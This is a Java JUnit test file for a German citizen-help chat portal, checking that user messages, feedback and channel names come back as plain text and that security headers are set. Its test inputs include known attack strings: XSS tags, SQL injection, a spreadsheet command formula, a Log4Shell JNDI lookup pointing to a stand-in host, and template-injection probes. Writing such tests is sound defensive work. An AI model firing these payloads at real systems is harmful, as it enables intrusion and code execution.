package de.buergerlotse.channels.portal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import de.buergerlotse.channels.PortalClient;
import de.buergerlotse.channels.RunningProduct;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Whatever somebody writes comes back as text: nothing is executed, nothing breaks.
class HostileTextTest {

  private final PortalClient portal = RunningProduct.shared().portal();

  @ParameterizedTest
  @ValueSource(
    strings = {
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "'; DROP TABLE message; --",
      "' OR '1'='1",
      "$1 ? :name %s \\ \" ' ` {}",
      "=cmd|' /C calc'!A0",
      "${jndi:ldap://example.invalid/a}",
      "{{7*7}} #{7*7} <%= 7*7 %>",
      "Zeile eins\nZeile zwei\tTab",
      "Z̸a̸l̸g̸o̸ é é",
      "👨‍👩‍👧‍👦 🏳️‍🌈",
      "مرحبا שלום",
    }
  )
  void keepsTextVerbatim(String text) {
    var talk = portal.begin();
    var answer = talk.say(text);
    assertEquals(200, answer.status(), answer.body());
    assertEquals("application/json", answer.header("Content-Type").replaceFirst(";.*", ""));
    assertEquals(text, talk.read().text("messages.1.blocks.0.text"));
    assertEquals(text, talk.export().text("messages.1.blocks.0.text"));
    assertEquals(3, talk.count());
  }

  @Test
  void dropsWhatCannotBeSeen() {
    assertEquals("Hallo Welt", kept("Hallo\\u0000 \\u0007Welt\\u001b"));
    assertEquals("Hallo", kept("\\u202eHallo\\u2066"));
    assertEquals("a\nb", kept("a\\r\\nb"));
  }

  @Test
  void mendsLoneSurrogates() {
    assertEquals("Hallo \uFFFD Welt", kept("Hallo \\ud83d Welt"));
    assertEquals("\uFFFD\uFFFD Welt", kept("\\ude00\\ud83d Welt"));
    assertEquals("😀", kept("\\ud83d\\ude00"));
  }

  @Test
  void keepsFeedbackHarmlessToo() {
    var talk = portal.begin();
    var body = "{\"seq\":1,\"helpful\":false,\"comment\":\"a\\u0000\\ud83d<script>\"}";
    assertEquals(204, portal.postRaw(talk.path("/feedback"), talk.token(), body).status());
    assertEquals("a\uFFFD<script>", talk.export().text("ratings.0.comment"));
  }

  @Test
  void takesOnlyAPlainNameAsChannel() {
    var talk = portal.begin(Map.of("channel", "<b>'; x</b>"));
    assertEquals("bxb", talk.export().text("channel"));
    assertEquals(
      "portal",
      portal
        .begin(Map.of("channel", "x".repeat(500)))
        .export()
        .text("channel")
    );
  }

  @Test
  void servesJsonThatNoBrowserGuessesAt() {
    var answer = portal.begin().say("<script>alert(1)</script>");
    assertEquals("nosniff", answer.header("X-Content-Type-Options"));
    assertFalse(answer.header("Content-Security-Policy").contains("unsafe"));
  }

  /// @param escaped the text as it stands in JSON
  private String kept(String escaped) {
    var talk = portal.begin();
    var body = "{\"clientMessageId\":\"" + UUID.randomUUID() + "\",\"text\":\"" + escaped + "\"}";
    var answer = portal.postRaw(talk.path("/messages"), talk.token(), body);
    assertEquals(200, answer.status(), answer.body());
    return talk.read().text("messages.1.blocks.0.text");
  }
}
